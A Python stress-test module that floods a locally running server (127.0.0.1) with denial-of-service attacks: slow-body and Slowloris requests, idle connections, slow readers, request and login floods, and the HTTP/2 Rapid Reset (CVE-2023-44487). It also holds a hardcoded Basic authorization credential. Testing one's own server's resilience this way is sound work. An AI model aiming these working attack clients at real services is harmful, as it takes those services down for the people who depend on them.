"""Attacks on a running system, each from one address.

    python -m tests.stress.attacks NAME SOURCE PORT LARGE

prints a line once the attack is under way, and goes on until the process is killed.
What the system closes or answers is opened or sent again a second later. LARGE is the
path of a large response.
"""

import asyncio
import resource
import socket
import struct
import sys
from collections.abc import Awaitable, Callable
from contextlib import suppress
from typing import NoReturn

AUTHORIZATION = "Basic c2ltdWxhdG9yOnN1cGVyX3NhZmUh"

_PAUSE = 1.0  # seconds between two bytes, reads, or waves of a client
_SLOW_READ = 64 * 1024  # bytes
_RESETS = 100  # on one connection; fewer than the streams that a server allows

# HTTP/2 (RFC 9113): the preface with empty SETTINGS, and two types of frames.
_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + bytes((0, 0, 0, 4, 0, 0, 0, 0, 0))
_HEADERS, _RST_STREAM = 1, 3
_END_STREAM_AND_HEADERS = 5
_CANCEL = struct.pack(">I", 8)
# HPACK (RFC 7541): GET, http and / from the static table, and an :authority.
_GET = b"\x82\x86\x84\x41\x01a"


class Crowd:
    """The clients of one attack.

    Args:
        size: how many there are.
        source: their address.
        port: of the system, on 127.0.0.1.
        large: path of a large response.

    """

    def __init__(self, size: int, source: str, port: int, large: str) -> None:
        self.large = large
        self.begun = 0
        self._size = size
        self._source = source
        self._port = port
        self._gate = asyncio.Barrier(size)

    async def connect(self, receive_buffer: int | None = None) -> socket.socket:
        """Open a connection."""
        opened = socket.socket()
        opened.setblocking(False)
        opened.bind((self._source, 0))
        if receive_buffer:
            opened.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive_buffer)
        # A reset at the end leaves no port in TIME_WAIT.
        opened.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
        await _loop().sock_connect(opened, ("127.0.0.1", self._port))
        return opened

    def begin(self) -> None:
        """Count a client that has sent what it sends first."""
        self.begun += 1
        if self.begun == self._size:
            print("under way", flush=True)

    async def all_ready(self) -> None:
        """Wait until all clients do, so that they go on at once."""
        await self._gate.wait()


async def slow_body(crowd: Crowd) -> None:
    """Send a request whose body never ends."""
    kind = "Content-Type: application/json"
    head = _head("POST", "/msgs/nobody", kind, "Content-Length: 1000")
    await _trickle(crowd, head + b"{", b" ")


async def slow_head(crowd: Crowd) -> None:
    """Send a request whose head never ends (Slowloris)."""
    await _trickle(crowd, _head("GET", "/latest")[:-2], b"X-A: b\r\n")


async def idle_connection(crowd: Crowd) -> None:
    """Open a connection without a request, or keep it after one."""
    await _trickle(crowd, _head("GET", "/latest") if crowd.begun % 2 else b"", b"")


async def slow_reader(crowd: Crowd) -> None:
    """Request a large response, and read it slowly."""
    with await crowd.connect(_SLOW_READ) as stream:
        await _loop().sock_sendall(stream, _head("GET", crowd.large))
        await _loop().sock_recv(stream, 1)
        crowd.begin()
        while await _loop().sock_recv(stream, _SLOW_READ):
            await asyncio.sleep(_PAUSE)


async def request(crowd: Crowd) -> None:
    """Send a request together with all others."""
    await _together(crowd, _head("GET", "/msgs?no=20", "Connection: close"))


async def sign_in(crowd: Crowd) -> None:
    """Try a password together with all others."""
    form = f"username=user-{crowd.begun}&password=wrong".encode()
    kind = "Content-Type: application/x-www-form-urlencoded"
    length = f"Content-Length: {len(form)}"
    head = _head("POST", "/login", kind, length, "Connection: close")
    await _together(crowd, head + form)


async def resets(crowd: Crowd) -> None:
    """Send HTTP/2 requests and reset each at once (CVE-2023-44487)."""
    frames = b"".join(
        _frame(_HEADERS, _END_STREAM_AND_HEADERS, stream, _GET)
        + _frame(_RST_STREAM, 0, stream, _CANCEL)
        for stream in range(1, 2 * _RESETS, 2)
    )
    with await crowd.connect() as stream:
        await crowd.all_ready()
        await _loop().sock_sendall(stream, _PREFACE + frames)
        crowd.begin()
        await asyncio.sleep(_PAUSE)


def _head(method: str, path: str, *headers: str) -> bytes:
    lines = (f"{method} {path} HTTP/1.1", "Host: a", f"Authorization: {AUTHORIZATION}")
    return "\r\n".join((*lines, *headers, "", "")).encode()


async def _trickle(crowd: Crowd, beginning: bytes, more: bytes) -> None:
    with await crowd.connect() as stream:
        await _loop().sock_sendall(stream, beginning)
        crowd.begin()
        closed = asyncio.ensure_future(_read_all(stream))
        while not (await asyncio.wait((closed,), timeout=_PAUSE))[0]:
            await _loop().sock_sendall(stream, more)


async def _together(crowd: Crowd, request: bytes) -> None:
    with await crowd.connect() as stream:
        await crowd.all_ready()
        await _loop().sock_sendall(stream, request)
        crowd.begin()
        await _read_all(stream)


async def _read_all(stream: socket.socket) -> None:
    with suppress(OSError):
        while await _loop().sock_recv(stream, _SLOW_READ):
            pass


def _frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    length = len(payload).to_bytes(3, "big")
    return length + struct.pack(">BBI", kind, flags, stream) + payload


def _loop() -> asyncio.AbstractEventLoop:
    return asyncio.get_running_loop()


Client = Callable[[Crowd], Awaitable[None]]

# How many clients do what.
ATTACKS: dict[str, tuple[int, Client]] = {
    "1,100 slow bodies": (1100, slow_body),
    "1,000 slow heads": (1000, slow_head),
    "2,000 idle connections": (2000, idle_connection),
    "60 slow readers": (60, slow_reader),
    "1,000 requests at once": (1000, request),
    "50 parallel sign-ins": (50, sign_in),
    "3,000 HTTP/2 resets": (3000 // _RESETS, resets),
}


async def attack(name: str, source: str, port: int, large: str) -> None:
    """Attack until the process is killed."""
    size, client = ATTACKS[name]
    crowd = Crowd(size, source, port, large)

    async def repeat() -> NoReturn:
        while True:
            with suppress(OSError):
                await client(crowd)
            await asyncio.sleep(_PAUSE)

    await asyncio.gather(*(repeat() for _ in range(size)))


if __name__ == "__main__":
    _, most = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    asyncio.run(attack(sys.argv[1], sys.argv[2], int(sys.argv[3]), sys.argv[4]))
